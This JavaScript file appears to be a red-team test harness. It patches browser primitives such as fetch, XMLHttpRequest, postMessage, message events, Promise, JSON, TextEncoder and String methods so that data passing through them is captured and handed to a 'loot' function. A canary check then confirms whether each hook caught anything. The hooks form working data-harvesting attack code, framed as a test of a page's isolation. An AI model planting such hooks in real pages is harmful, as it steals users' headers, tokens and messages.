// An attacker's hooks: what a page's primordials pass on is looked at and sent home. `redteam.passed` counts what came through each,
// which shows that a hook was in place.
{
  const { redteam } = globalThis;
  redteam.passed = {};
  const look = (place, value) => {
    redteam.passed[place] = (redteam.passed[place] ?? 0) + 1;
    try {
      const text = typeof value === "string" ? value : JSON.stringify(value);
      if (text && text.length > 30) redteam.loot(`${place} ${text}`);
    } catch {
      // Not everything has a text.
    }
  };

  /** Each puts its hooks in place. */
  redteam.hook = {
    fetch: () => {
      const { fetch } = globalThis;
      globalThis.fetch = function (input, init) {
        look("fetch", [String(input?.url ?? input), [...new Headers(init?.headers ?? input?.headers)]]);
        return fetch.call(globalThis, input, init).then((response) => {
          void response
            .clone()
            .text()
            .then((text) => look("answer", text))
            .catch(String);
          return response;
        });
      };
      for (const [name, owner] of [
        ["set", Headers],
        ["append", Headers],
        ["get", Headers],
        ["open", XMLHttpRequest],
        ["setRequestHeader", XMLHttpRequest],
        ["send", XMLHttpRequest],
        ["text", Response],
        ["json", Response],
      ]) {
        const own = owner.prototype[name];
        owner.prototype[name] = function (...given) {
          look(`${owner.name}.${name}`, given);
          const result = own.apply(this, given);
          void Promise.resolve(result)
            .then((value) => look(`${owner.name}.${name}`, value))
            .catch(String);
          return result;
        };
      }
    },
    ports: () => {
      const owners = [MessagePort, Window, BroadcastChannel, Worker, globalThis.ServiceWorker];
      for (const owner of owners.filter(Boolean)) {
        const target = owner.prototype.postMessage ? owner.prototype : globalThis;
        const own = target.postMessage;
        target.postMessage = function (...given) {
          look(`${owner.name} sends`, given[0]);
          return own.apply(this, given);
        };
      }
      const { addEventListener } = EventTarget.prototype;
      EventTarget.prototype.addEventListener = function (type, listener, options) {
        if (type === "message") addEventListener.call(this, type, ({ data }) => look("hears", data));
        return addEventListener.call(this, type, listener, options);
      };
      for (const owner of [MessagePort, Worker, BroadcastChannel]) {
        const setter = Object.getOwnPropertyDescriptor(owner.prototype, "onmessage");
        Object.defineProperty(owner.prototype, "onmessage", {
          ...setter,
          set(listener) {
            setter.set.call(this, (event) => {
              look(`${owner.name} hears`, event.data);
              listener.call(this, event);
            });
          },
        });
      }
      const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
      Object.defineProperty(MessageEvent.prototype, "data", {
        ...data,
        get() {
          const value = data.get.call(this);
          look("data", value);
          return value;
        },
      });
    },
    promise: () => {
      const { then } = Promise.prototype;
      Promise.prototype.then = function (done, failed) {
        const spied = typeof done === "function" ? (value) => (look("then", value), done(value)) : done;
        return then.call(this, spied, failed);
      };
      const { resolve } = Promise;
      Promise.resolve = function (value) {
        look("resolve", value);
        return resolve.call(this, value);
      };
    },
    text: () => {
      for (const name of ["parse", "stringify"]) {
        const own = JSON[name];
        JSON[name] = function (...given) {
          const result = own.apply(JSON, given);
          redteam.passed[name] = (redteam.passed[name] ?? 0) + 1;
          for (const text of [given[0], result]) {
            if (typeof text === "string" && text.length > 30) redteam.loot(text);
          }
          return result;
        };
      }
      const { decode } = TextDecoder.prototype;
      TextDecoder.prototype.decode = function (...given) {
        const text = decode.apply(this, given);
        look("decode", text);
        return text;
      };
      const { encode } = TextEncoder.prototype;
      TextEncoder.prototype.encode = function (text) {
        look("encode", text);
        return encode.call(this, text);
      };
      for (const name of ["concat", "slice", "substring", "split", "replace", "trim", "charCodeAt"]) {
        const own = String.prototype[name];
        let busy = false;
        String.prototype[name] = function (...given) {
          if (!busy && this.length > 100 && this.length < 5000) {
            busy = true;
            redteam.loot(`${this}`);
            busy = false;
          }
          return own.apply(this, given);
        };
      }
    },
  };

  const CANARY = "a canary of the attacker's own, longer than thirty characters";
  const uses = {
    fetch: async () => (await fetch("/context.js", { headers: { accept: CANARY } })).text(),
    ports: async () => {
      const { port1, port2 } = new MessageChannel();
      await new Promise((resolve) => {
        port1.onmessage = ({ data }) => resolve(data);
        port2.postMessage(CANARY);
      });
    },
    promise: () => Promise.resolve(CANARY).then(String),
    text: () => JSON.parse(JSON.stringify([new TextDecoder().decode(new TextEncoder().encode(CANARY))])),
  };

  /** Uses a hooked part itself. Gives what came through the hooks before, and whether its own words were caught. */
  redteam.tryHook = async (name) => {
    const passed = { ...redteam.passed };
    await uses[name]();
    await redteam.wait(50);
    return { passed, caught: redteam.looted.some((text) => text.includes(CANARY)) };
  };
}
